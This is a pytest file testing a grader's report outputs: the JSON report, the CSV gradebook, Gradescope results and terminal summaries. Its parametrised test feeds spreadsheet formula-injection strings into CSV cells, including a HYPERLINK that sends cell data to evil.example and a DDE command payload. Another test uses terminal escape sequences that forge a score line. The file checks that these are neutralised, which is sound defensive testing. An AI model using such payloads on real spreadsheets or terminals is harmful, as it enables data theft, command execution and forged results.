"""grader.reports: the JSON report, the CSV gradebook, Gradescope results, terminal lines.

Every expected value here is written out by hand from the run below, not computed by the code
under test, so a wrong column, total or field shows.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from grader import write_csv, write_json
from grader.reports import notes, shown, summary_lines
from grader.reports.gradescope import gradescope_result

QUIZ = {
    "quiz": "lr", "score": 7, "max_score": 10, "percent": 70.0, "passed": False,
    "pass_percent": 75.0, "answered": 9, "notes": ["Ignored answers to unknown questions: q9."],
    "questions": {
        "q1": {"correct": True, "answered": True, "score": 1, "max_score": 1, "feedback": [],
               "explanation": "", "expected": "a"},
        "q2": {"correct": False, "answered": True, "score": 0, "max_score": 1,
               "feedback": ["You chose “b”. Not b."], "explanation": "", "expected": "a"},
    },
}
ADA = {
    "file": "subs/ada.json",
    "learner": {"name": "Ada", "email": "ada@example.org"},
    "valid": True,
    "error": None,
    "exercises": {
        "predict-x6": {"status": "passed", "score": 1.0, "max_score": 1.0, "feedback": ["Right."]},
        "lr-divergence": {"status": "timeout", "score": 0.0, "max_score": 2.0,
                          "feedback": ["Stopped after 10 seconds.", "Look for a loop."]},
    },
    "quizzes": {"lr": QUIZ},
    "score": 1.0,
    "max_score": 3.0,
}
LATE = {
    "file": "late/ada.json", "learner": {"name": "", "email": ""}, "valid": False,
    "error": "not valid JSON: Expecting value (line 1 column 1)", "exercises": {}, "quizzes": {},
    "score": 0, "max_score": 3.0,
}
RUN = {"seed": 4, "exercises": ["predict-x6", "lr-divergence"], "quizzes": ["lr"],
       "submissions": [ADA, LATE], "identical": []}
TITLES = {"predict-x6": "Predict", "lr-divergence": "Gradient descent", "lr": "Quiz one"}


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def test_json_report_round_trips_every_key(tmp_path: Path) -> None:
    write_json(RUN, tmp_path / "run.json")
    assert json.loads((tmp_path / "run.json").read_text(encoding="utf-8")) == RUN


def test_every_csv_column_of_every_row(tmp_path: Path) -> None:
    write_csv(RUN, tmp_path / "grades.csv")
    fields, rows = read_csv(tmp_path / "grades.csv")
    assert fields == ["file", "name", "email", "valid", "error", "predict-x6", "lr-divergence",
                      "score", "max_score", "quiz:lr", "quiz:lr:passed"]
    assert rows == [
        {"file": "subs/ada.json", "name": "Ada", "email": "ada@example.org", "valid": "True",
         "error": "", "predict-x6": "1", "lr-divergence": "0", "score": "1", "max_score": "3",
         "quiz:lr": "7", "quiz:lr:passed": "False"},
        {"file": "late/ada.json", "name": "", "email": "", "valid": "False",
         "error": "not valid JSON: Expecting value (line 1 column 1)", "predict-x6": "",
         "lr-divergence": "", "score": "0", "max_score": "3", "quiz:lr": "",
         "quiz:lr:passed": ""},
    ]


def test_csv_quiz_column_holds_assignment_points_when_the_quiz_is_scaled(tmp_path: Path) -> None:
    scaled = {**ADA, "quizzes": {"lr": {**QUIZ, "points": 3.5, "max_points": 5.0}},
              "score": 4.5, "max_score": 8.0}
    write_csv({**RUN, "submissions": [scaled]}, tmp_path / "grades.csv")
    row = read_csv(tmp_path / "grades.csv")[1][0]
    assert (row["quiz:lr"], row["score"], row["max_score"]) == ("3.5", "4.5", "8")


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
    ids=["hyperlink", "dde", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path, text: str) -> None:
    hostile = {**LATE, "file": text + ".json", "learner": {"name": text, "email": text},
               "error": text}
    write_csv({**RUN, "submissions": [hostile]}, tmp_path / "grades.csv")
    row = read_csv(tmp_path / "grades.csv")[1][0]
    for column in ("file", "name", "email", "error"):
        assert row[column].startswith("'"), column
        assert row[column][1:].startswith(text[0])


def test_gradescope_result_has_every_field_of_every_test() -> None:
    result = gradescope_result(ADA, TITLES)
    assert result == {
        "score": 8.0,  # 1 exercise point + 7 quiz questions
        "output": "8 of 13 points.",
        "visibility": "visible",
        "tests": [
            {"name": "predict-x6: Predict", "score": 1.0, "max_score": 1.0, "status": "passed",
             "output": "passed\nRight.", "visibility": "visible"},
            {"name": "lr-divergence: Gradient descent", "score": 0.0, "max_score": 2.0,
             "status": "failed", "output": "timeout\nStopped after 10 seconds.\nLook for a loop.",
             "visibility": "visible"},
            {"name": "lr: Quiz one", "score": 7, "max_score": 10, "status": "failed",
             "output": "7 of 10 questions (70%): not passed; above 75% passes.\n"
                       "q2: You chose “b”. Not b.\nIgnored answers to unknown questions: q9.",
             "visibility": "visible"},
        ],
    }


def test_gradescope_quiz_test_uses_the_assignment_points() -> None:
    scaled = {**ADA, "quizzes": {"lr": {**QUIZ, "points": 3.5, "max_points": 5.0}}}
    result = gradescope_result(scaled, TITLES, visibility="after_published")
    quiz = result["tests"][2]
    assert (quiz["score"], quiz["max_score"], quiz["visibility"]) == (3.5, 5.0, "after_published")
    assert (result["score"], result["output"]) == (4.5, "4.5 of 8 points.")


def test_gradescope_result_of_an_invalid_file_says_why() -> None:
    assert gradescope_result(LATE, TITLES) == {
        "score": 0.0, "visibility": "visible", "tests": [],
        "output": "This file could not be graded: not valid JSON: Expecting value "
                  "(line 1 column 1).",
    }


def test_summary_has_a_line_per_file() -> None:
    assert summary_lines(RUN) == [
        "ada.json: Ada 1/3  predict-x6=passed lr-divergence=timeout quiz:lr=7/10",
        "ada.json: invalid (not valid JSON: Expecting value (line 1 column 1))",
    ]


def test_escape_sequences_in_names_and_files_are_shown_not_sent() -> None:
    forged = "\x1b[2K\r\x1b[1Aada.json: Ada 14/14\u202e"
    item = {**ADA, "file": "subs/\x1b[2Kada\r.json", "learner": {"name": forged, "email": ""}}
    line = summary_lines({**RUN, "submissions": [item]})[0]
    assert not any(ord(char) < 32 or char == "\u202e" for char in line)
    assert line.startswith("\\x1b[2Kada\\x0d.json: \\x1b[2K\\x0d\\x1b[1Aada.json: Ada 14/14"
                           "\\u202e 1/3  ")
    assert shown("tab\there") == "tab\\x09here"


def test_notes_name_ignored_work_and_identical_files_once() -> None:
    run = {**RUN, "assignment": {"id": "week-1"}, "identical": [["a.json", "b/\x1b.json"]],
           "submissions": [{**ADA, "ignored": ["held-out"]}, {**ADA, "ignored": ["held-out"]}]}
    assert notes(run) == [
        "grader: ignored work for 1 exercises outside assignment week-1 (held-out) in 2 files",
        "grader: identical submissions: a.json, b/\\x1b.json",
    ]


def test_a_flood_of_ignored_ids_is_listed_in_short() -> None:
    many = [f"x-{n:03d}" for n in range(500)]
    run = {**RUN, "assignment": {"id": "w"}, "submissions": [{**ADA, "ignored": many}]}
    assert notes(run) == ["grader: ignored work for 500 exercises outside assignment w "
                          f"({', '.join(many[:10])} and 490 more) in 1 files"]
    output = gradescope_result({**ADA, "ignored": many}, TITLES)["output"]
    assert output.endswith(f"not graded: {', '.join(many[:10])} and 490 more.")
